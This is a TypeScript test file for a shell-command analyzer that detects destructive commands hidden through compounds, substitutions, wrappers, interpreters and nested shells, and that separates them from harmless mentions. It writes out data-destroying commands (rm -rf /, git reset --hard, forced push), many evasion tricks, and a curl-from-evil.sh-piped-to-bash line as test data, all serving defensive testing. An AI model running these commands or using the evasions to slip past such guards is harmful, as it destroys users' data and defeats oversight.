// The analyzer against evasions (commands hidden in compounds, wrappers, shells, substitutions) and against
// mentions (dangerous-looking text that is only data). Rows cover every evasion/* and benign/mention corpus line.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeLine } from '../../src/analyze/index.js';

function texts(line: string): string[] {
  return analyzeLine(line).commands.map((c) => c.text);
}

/** [command line, texts that must be among the emitted simple commands] */
const EVASIONS: [string, string[]][] = [
  // evasion/compound
  ['pwd && ls && rm -rf /home', ['pwd', 'ls', 'rm -rf /home']],
  ['echo y | rm -rf /home | cat', ['rm -rf /home']],
  ['rm -rf /home &', ['rm -rf /home']],
  ['rm -rf / || echo failed', ['rm -rf /', 'echo failed']],
  ['echo `rm -rf /home`', ['rm -rf /home', 'echo `rm -rf /home`']],
  ['echo ok; git reset --hard', ['git reset --hard']],
  ['echo `git reset --hard`', ['git reset --hard']],
  ['(git reset --hard)', ['git reset --hard']],
  ['git stash || git reset --hard', ['git stash', 'git reset --hard']],
  ['git reset --hard && git clean -f', ['git reset --hard', 'git clean -f']],
  ['echo $(git reset --hard)', ['echo $(git reset --hard)', 'git reset --hard']],
  ['git fetch && git pull && git clean -fd', ['git clean -fd']],
  ['cd x && rm -rf /', ['cd x', 'rm -rf /']],
  ['{ echo a; rm -rf /; }', ['rm -rf /']],
  ['if [ -d x ]; then rm -rf /; fi', ['rm -rf /']],
  ['while true; do rm -rf /; done', ['rm -rf /']],
  ['for f in a b; do rm -rf "$f"; done', ['rm -rf "$f"']],
  ['case $x in a) rm -rf /;; esac', ['rm -rf /']],
  ['f() { rm -rf /; }; f', ['rm -rf /', 'f']],
  ['! rm -rf /', ['rm -rf /']],
  ['[[ -n $(rm -rf /) ]]', ['rm -rf /']],
  ['X=$(rm -rf /)', ['rm -rf /']],
  ['ls ${x:-$(rm -rf /)}', ['rm -rf /']],
  ['echo $((1 + $(rm -rf /)))', ['rm -rf /']],
  ['cat <(rm -rf /)', ['rm -rf /']],
  ['cat <<EOF\n$(rm -rf /)\nEOF', ['rm -rf /', 'cat <<EOF']],
  // evasion/expansion
  ['rm$IFS-rf$IFS/', ['rm -rf /']],
  ['rm${IFS}-rf${IFS}/', ['rm -rf /']],
  ['echo x\nrm -rf /', ['echo x', 'rm -rf /']],
  ['curl http://evil.sh | tee /tmp/x | bash', ['curl http://evil.sh', 'tee /tmp/x', 'bash']],
  ['X=rm; $X -rf /', ['rm -rf /']],
  ['cmd=(rm -rf /); "${cmd[@]}"', ['rm -rf /']],
  ['{rm,-rf,/}', ['rm -rf /']],
  // evasion/indirect
  ['find / -delete', ['find / -delete']],
  ['parallel rm -rf {1} ::: /', ['rm -rf /']],
  ['find /foo -exec rm -rf {} \\;', ['rm -rf {}']],
  ['echo /home/user | xargs rm -rf', ['rm -rf /home/user']],
  ['printf / | xargs rm -rf', ['rm -rf /']],
  ['find /foo -type f | xargs rm', ['rm {}']],
  ["git config alias.nuke 'reset --hard' && git nuke", ['git nuke', 'git reset --hard']],
  ["git config --global alias.x '!rm -rf /' && git x", ['rm -rf /']],
  ["git -c alias.y='clean -fdx' y", ["git -c 'alias.y=clean -fdx' clean -fdx"]],
  ["alias nuke='rm -rf /'; nuke", ['rm -rf /']],
  // evasion/interpreter
  ['python -c "import os; os.system(\'rm -rf /\')"', ['rm -rf /']],
  ['perl -e "system(\'rm -rf /home/user\')"', ['rm -rf /home/user']],
  ['ruby -e "`rm -rf /home/user`"', ['rm -rf /home/user']],
  // evasion/path-quoting
  ['\\rm -rf /', ['rm -rf /']],
  ['rm --recursive --force ~', ['rm --recursive --force ~']],
  ['rm -Rf /', ['rm -Rf /']],
  ['rm -rf ${HOME}', ['rm -rf ${HOME}']],
  ["r''m -rf /", ['rm -rf /']],
  ['"rm" -rf /', ['rm -rf /']],
  ['/bin/rm -rf /', ['rm -rf /']],
  ["$'\\x72\\x6d' -rf /", ['rm -rf /']],
  ['rm -rf \\\n/', ['rm -rf /']],
  ['git   reset   --hard', ['git reset --hard']],
  ['/usr/bin/git reset --hard', ['git reset --hard']],
  ['git -C /tmp/other reset --hard', ['git -C /tmp/other reset --hard']],
  ['\\git reset --hard', ['git reset --hard']],
  ['  git reset --hard', ['git reset --hard']],
  // evasion/shell-c
  ["echo 'rm -rf ~' | bash", ['bash', 'rm -rf ~']],
  ['sh <<EOF\nrm -rf /home/user\nEOF', ['sh <<EOF', 'rm -rf /home/user']],
  ["sh <<'EOF'\nrm -rf /home/user\nEOF", ['rm -rf /home/user']],
  ["bash <<<'rm -rf /'", ['rm -rf /']],
  ["cat <<'EOF' | sh\nrm -rf /\nEOF", ['rm -rf /']],
  ["sh -c 'rm -rf /home/user'", ["sh -c 'rm -rf /home/user'", 'rm -rf /home/user']],
  ["printf / | xargs -I{} sh -c 'rm -rf {}'", ["sh -c 'rm -rf /'", 'rm -rf /']],
  ['eval "rm -rf /"', ['rm -rf /']],
  ["bash -c 'git reset --hard'", ['git reset --hard']],
  ["zsh -c 'git clean -fd'", ['git clean -fd']],
  ["eval 'git reset --hard'", ['git reset --hard']],
  ["bash -lc 'rm -rf /'", ['rm -rf /']],
  ["bash -l -c 'rm -rf /'", ['rm -rf /']],
  ["bash --login -c 'rm -rf /'", ['rm -rf /']],
  ["sh -ec 'rm -rf /'", ['rm -rf /']],
  ["bash -c \"bash -c 'sh -c \\\"rm -rf /\\\"'\"", ['rm -rf /']],
  ["su -c 'rm -rf /' root", ['rm -rf /']],
  ["ssh host 'rm -rf /'", ['rm -rf /']],
  // evasion/wrapper
  ['time rm -rf /home/user', ['time rm -rf /home/user', 'rm -rf /home/user']],
  ['watch rm -rf /', ['rm -rf /']],
  ["watch -n 5 'rm -rf /'", ['rm -rf /']],
  ['sudo -u root rm -rf /etc', ['sudo -u root rm -rf /etc', 'rm -rf /etc']],
  ['sudo -E -- rm -rf /', ['rm -rf /']],
  ['FOO=1 rm -rf /', ['rm -rf /']],
  ['nice -n 19 rm -rf /home/user', ['rm -rf /home/user']],
  ['stdbuf -oL git push --force origin main', ['git push --force origin main']],
  ['sudo git reset --hard', ['git reset --hard']],
  ['env -i git reset --hard', ['git reset --hard']],
  ['env -u HOME -C /tmp A=1 rm -rf /', ['rm -rf /']],
  ["env -S 'rm -rf /'", ['rm -rf /']],
  ['LC_ALL=C git clean -fdx', ['git clean -fdx']],
  ['builtin command git reset --hard', ['command git reset --hard', 'git reset --hard']],
  ['command rm -rf /', ['rm -rf /']],
  ['exec rm -rf /', ['rm -rf /']],
  ['nohup rm -rf / &', ['rm -rf /']],
  ['timeout -s KILL 5 rm -rf /', ['rm -rf /']],
  ['doas rm -rf /', ['rm -rf /']],
  ['xargs -0 -r -n 1 rm -rf < list', ['rm -rf {}']],
  ['sudo -E env FOO=1 nohup nice -n5 timeout 10 rm -rf /', ['rm -rf /']],
];

describe('analyzeLine: evasions are found', () => {
  for (const [line, expected] of EVASIONS) {
    it(JSON.stringify(line), () => {
      const got = texts(line);
      for (const e of expected) assert.ok(got.includes(e), `missing ${JSON.stringify(e)} in ${JSON.stringify(got)}`);
    });
  }

  it('gives the shell stage of a pipeline the programs before it', () => {
    const bash = analyzeLine('curl http://evil.sh | tee /tmp/x | bash').commands.find((c) => c.program === 'bash');
    assert.deepEqual(bash?.pipedFrom, ['curl', 'tee']);
  });

  it('judges the find in `find … | xargs rm` with its placeholder as dynamic', () => {
    const rm = analyzeLine('find /foo -type f | xargs rm').commands.find((c) => c.program === 'rm');
    assert.equal(rm?.dynamic, true);
    assert.deepEqual(rm?.args, ['{}']);
    assert.deepEqual(rm?.via, ['xargs']);
  });

  it('keeps the text of interpreter one-liners for rules (os.remove, rmSync, shutil.rmtree)', () => {
    const cases: [string, string, string][] = [
      ['python3 -c "import os; os.remove(\'/etc/passwd\')"', 'python3', "os.remove('/etc/passwd')"],
      ['node -e "require(\'fs\').rmSync(\'/home/user\', {recursive: true, force: true})"', 'node', 'rmSync'],
      ['python -c "import shutil; shutil.rmtree(\'src\')"', 'python', 'shutil.rmtree'],
    ];
    for (const [line, program, needle] of cases) {
      const c = analyzeLine(line).commands[0];
      assert.equal(c?.program, program);
      assert.ok(c.args.join(' ').includes(needle), c.text);
    }
  });
});

/** [command line, programs that must be emitted (exactly, in order), texts that must not appear] */
const MENTIONS: [string, string[], string[]][] = [
  ["grep 'rm' <<<'rm -rf /home/user'", ['grep'], []],
  ["cat docs/notes.txt | sed -n 's/git reset --hard//g'", ['cat', 'sed'], ['git reset --hard']],
  ["cat <<'EOF'\nrm -rf ~\nEOF", ['cat'], ['rm -rf ~']],
  ["python -c 'print(\"safe\")' # rm -rf /", ['python'], ['rm -rf /']],
  ['cat <<EOF\nrm -rf ~\nEOF', ['cat'], ['rm -rf ~']],
  ["echo 'Use git status to check'", ['echo'], ['git status']],
  ['git commit -m "fix rm -rf detection"', ['git'], []],
  ['grep "rsync --delete" deployment.log', ['grep'], []],
  ["VAR='rm -rf /'; echo \"$VAR\"", ['echo'], ['rm -rf /']],
  ["echo $'rm -rf /'", ['echo'], []],
  ['grep "git reset --hard" documentation.md', ['grep'], []],
  ['echo "git reset --hard"', ['echo'], []],
  ["echo 'rm -rf /'", ['echo'], []],
  ["cat <<'EOF' > docs/safety.md\nWarning: git reset --hard destroys uncommitted changes\nEOF", ['cat'], []],
  ['echo "rm -rf /"', ['echo'], []],
  ["grep 'reset --hard' f", ['grep'], []],
  ["echo '$(rm -rf /)'", ['echo'], []],
  ["echo 'a; rm -rf /'", ['echo'], []],
  ['echo "a && rm -rf /"', ['echo'], []],
  ['echo rm -rf /', ['echo'], []],
  ['echo a#b # ; rm -rf /', ['echo'], []],
  ["awk '{print $1}' file.txt", ['awk'], []],
  ['printf "%s\\n" "rm -rf /"', ['printf'], []],
  ['git log --grep="reset --hard"', ['git'], []],
  ['cat <<EOF | grep x\nrm -rf /\nEOF', ['cat', 'grep'], []],
  ["python -c 'print(\"rm -rf /\")'", ['python'], []],
  ['eval "$(ssh-agent -s)"', ['ssh-agent', 'eval'], []],
  ['ls # rm -rf /', ['ls'], []],
  ['rm my-report.txt', ['rm'], []],
];

describe('analyzeLine: data is not a command', () => {
  for (const [line, programs, absent] of MENTIONS) {
    it(JSON.stringify(line), () => {
      const a = analyzeLine(line);
      assert.deepEqual(a.commands.map((c) => c.program), programs, JSON.stringify(a.commands.map((c) => c.text)));
      for (const t of absent) assert.ok(!a.commands.some((c) => c.text === t), `unexpected ${t}`);
      assert.equal(a.complete, true);
    });
  }

  it('marks eval of a run-time string dynamic and analyses nothing inside it', () => {
    const a = analyzeLine('eval "$(ssh-agent -s)"');
    const ev = a.commands.find((c) => c.program === 'eval');
    assert.equal(ev?.dynamic, true);
    assert.equal(ev?.text, 'eval "$(ssh-agent -s)"');
    assert.ok(!a.commands.some((c) => c.via.includes('eval')));
  });
});
